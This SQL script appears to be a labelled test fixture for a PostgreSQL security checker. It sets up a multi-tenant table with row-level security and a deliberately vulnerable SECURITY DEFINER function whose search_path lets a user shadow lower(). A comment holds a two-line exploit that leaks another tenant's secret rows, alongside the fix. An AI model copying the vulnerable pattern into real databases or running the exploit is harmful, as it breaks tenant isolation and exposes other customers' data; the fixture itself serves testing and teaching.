-- verdict: leak
-- kind: catalog-last
-- object: public.my_docs
-- why: pg_catalog comes after a schema in which the app may create, so even = may be planted
-- severity: high
-- also: public
-- roles: app_owner app_user
-- exploit-begin
-- create function public.lower(text) returns text language sql as $f$ select '00000000-0000-4000-8000-00000000000a'::text $f$;
-- select exists (select 1 from my_docs() where tenant_id = '00000000-0000-4000-8000-00000000000a') as leaked;
-- exploit-end
-- fix-begin
-- alter function my_docs() set search_path = pg_catalog, public, pg_temp;
-- revoke create on schema public from app_user;
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
reset role; grant create on schema public to app_user; set role app_owner;
create table docs (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  title text not null
);
insert into docs (tenant_id, title) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET'), ('00000000-0000-4000-8000-00000000000b', 'b');
alter table docs enable row level security;
create policy tenant_isolation on docs using (tenant_id = current_setting('app.tenant_id', true)::uuid) with check (tenant_id = current_setting('app.tenant_id', true)::uuid);
grant select, insert, update, delete on docs to app_user;
create function my_docs() returns setof docs language plpgsql stable security definer set search_path = public, pg_catalog, pg_temp as $$ begin return query select * from public.docs d where d.tenant_id::text = lower(current_setting('app.tenant_id', true)); end $$;
reset role;
